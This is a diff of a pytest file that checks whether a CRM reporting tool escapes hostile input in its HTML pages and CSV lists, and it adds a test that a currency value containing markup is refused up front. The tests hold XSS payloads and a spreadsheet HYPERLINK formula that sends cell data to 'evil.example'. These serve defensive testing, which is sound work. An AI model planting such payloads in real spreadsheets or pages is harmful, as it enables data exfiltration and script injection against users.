@@ -18,6 +18,7 @@ import pytest
 
 from crmlab.report import notebook as nb
 from crmlab.report.html import CSP, history_page, index_page, notice_page, page
+from crmlab.schema import CrmlabInputError
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 HOSTILE = [
@@ -31,7 +32,7 @@ HOSTILE = [
     "<body onload=alert(7)>",
 ]
 HOSTILE_COLUMN = "<script>alert('col')</script>"
-HOSTILE_CURRENCY = "<b>¥</b>"  # the runner allows 8 characters
+HOSTILE_CURRENCY = "<b>¥</b>"  # 8 characters, but markup: refused before any notebook runs (issue 23, Settings)
 HOSTILE_COPY = "<script>alert('A')</script>A"  # the copy of arms A@10:00, A@17:00
 HOSTILE_FILE = "<img src=x onerror=alert('file')>orders.csv"
 LISTS = ("wakeup_list.csv", "magic_targets.csv", "clv_wakeup.csv", "clv_customers.csv", "sms_drop_list.csv",
@@ -166,7 +167,7 @@ def test_escaped_styler(shown):
 
 
 def test_run_info_and_cards(shown):
-    from crmlab.present.cards import Card
+    from crmlab.present.result import Card
 
     nb.run_info({"orders": "/x/" + HOSTILE_FILE, HOSTILE[0]: HOSTILE[1], "currency": HOSTILE[3]}, [])
     card = Card(HOSTILE[0], HOSTILE[1], HOSTILE[2], pd.DataFrame({HOSTILE[3]: HOSTILE[4:6]}, index=HOSTILE[6:8]),
@@ -262,8 +263,17 @@ def hostile_run(small_store, tmp_path_factory):
     root = tmp_path_factory.mktemp("hostile")
     orders, sends, columns = _hostile_store(small_store, root / "store")
     res = run_reports(str(orders), str(sends), out=str(root / "reports" / "{date}"), quiet=True, columns=columns,
-                      parameters={"currency": HOSTILE_CURRENCY, "current_copy": HOSTILE_COPY})
+                      parameters={"currency": "£", "current_copy": HOSTILE_COPY})
     return res, root / "reports"
+
+
+def test_a_currency_with_markup_is_refused_up_front(small_store, tmp_path):
+    from crmlab.report.runner import run_reports
+
+    with pytest.raises(CrmlabInputError, match="currency"):
+        run_reports(str(small_store / "orders.csv"), out=str(tmp_path / "r"), quiet=True, notebooks=["01"],
+                    parameters={"currency": HOSTILE_CURRENCY})
+    assert not (tmp_path / "r").exists()
 
 
 def test_hostile_run_ran(hostile_run):
@@ -282,7 +292,7 @@ def test_every_page_inert_with_csp(hostile_run):
     # the data did reach the pages, as text
     o1 = (Path(res.out) / "01_store_overview.html").read_text(encoding="utf-8")
     assert "&lt;script&gt;alert(&#x27;ch&#x27;)&lt;/script&gt;" in o1 or "&lt;script&gt;alert('ch')&lt;/script&gt;" in o1
-    assert "&lt;b&gt;¥&lt;/b&gt;" in o1
+    assert "£" in o1  # the run's currency (a markup one is refused up front: test above)
 
 
 def test_lists_neutralise_formula_ids(hostile_run):
